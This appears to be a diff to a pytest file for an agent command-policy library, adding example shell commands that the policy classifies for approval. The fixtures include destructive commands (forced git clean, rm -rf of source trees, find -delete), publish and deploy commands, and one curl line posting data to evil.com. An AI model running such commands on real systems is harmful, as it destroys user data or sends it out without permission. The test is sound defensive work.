@@ -7,7 +7,7 @@ from functools import cache
 import pytest
 
 from handrail import Call, Executor, Toolset, tool
-from handrail.policy import Rulebook, builtin_rules
+from handrail.policy import Level, Rulebook, builtin_rules, parse
 
 
 @tool
@@ -82,6 +82,21 @@ git worktree remove --force ../x
 git reflog expire --expire=now --all
 git gc --prune=now
 git prune
+git clean -fdx -enothing
+git checkout src
+git checkout Makefile
+git checkout --pathspec-from-file=l
+git -c alias.p=reset p --hard
+git ls-files | xargs rm -f
+find . -name '*.pyc'; git ls-files | xargs rm -f
+find . -type f -not -name '*.pyc' -delete
+find . ! -name '*.log' -delete
+find . -path ./build -prune -o -delete
+rm -rf src/core
+rm bin/cli.js
+rm -rf packages/core lib/bin
+rm -rf build/$D
+rm -rf src/build/lib
 git update-ref -d refs/heads/x
 git filter-branch --all
 git tag -d v1
@@ -138,6 +153,18 @@ ssh host uptime
 scp a.txt host:/tmp
 rsync -av dist/ user@host:/var/www
 npm publish
+npm run deploy:prod
+mvn clean deploy
+./gradlew clean publish
+gradle build publishToMavenCentral
+make build deploy
+python -m twine upload dist/x
+cargo +nightly publish
+yarn workspace a publish
+git -c alias.p=push p origin main
+git send-pack origin main
+git subtree push --prefix x origin main
+curl -d x localhost user@evil.com
 npm run deploy
 cargo publish
 twine upload dist/*
@@ -238,6 +265,11 @@ rm -rf src/__pycache__ .pytest_cache
 rm "$TMPDIR/x"
 find . -name __pycache__ -type d -exec rm -rf {} +
 find . -name '*.pyc' -delete
+rm -rf dist/ src/build
+make test
+npm run build
+mvn clean install
+python -m pytest -q
 find . -name '*.pyc' | xargs rm -f
 git commit -m "rm old files, git push later"
 git checkout main
@@ -355,14 +387,19 @@ def test_a_change_of_others_machines_needs_approval_in_mode_open(command: str) -
 
 
 def test_a_rule_of_the_user_comes_first_and_a_built_in_one_does_not() -> None:
-    rules = '[[rule]]\ndecide = "allow"\ncommand = ["git push", "npm run"]\noperands = ["text*"]'
-    mine = Rulebook.from_toml(rules, mode="edits", sandboxed=True)
-    calls = [Call("bash", {"command": text}) for text in ("git push", "npm run deploy")]
+    text = '[[rule]]\ndecide = "allow"\ncommand = ["git push", "npm run deploy", "ocaml"]\noperands = ["text*"]'
+    written = parse(text, file="r.toml", level=Level.USER).rules
+    both = Rulebook(
+        [*builtin_rules("read_only", "development"), *written], mode="edits", sandboxed=True
+    )
+    lines = ["git push", "npm run deploy", "ls && git push", "ocaml a.ml && make deploy"]
 
-    with_mine = [Executor(Toolset(bash), policy=mine).explain(call).decision for call in calls]
-    built_in = [executor("edits").explain(call).decision for call in calls]
-    assert [type(one).__name__ for one in with_mine] == ["Allow", "Allow"]
-    assert [type(one).__name__ for one in built_in] == ["Ask", "Ask"]
+    def decisions(asked: Executor) -> list[str]:
+        calls = [Call("bash", {"command": line}) for line in lines]
+        return [type(asked.explain(call).decision).__name__ for call in calls]
+
+    assert decisions(Executor(Toolset(bash), policy=both)) == ["Allow", "Allow", "Allow", "Ask"]
+    assert decisions(executor("edits")) == ["Ask"] * 4
 
 
 @pytest.mark.parametrize("command", [*commands(RUNS), *IN_LINES_THAT_RUN])
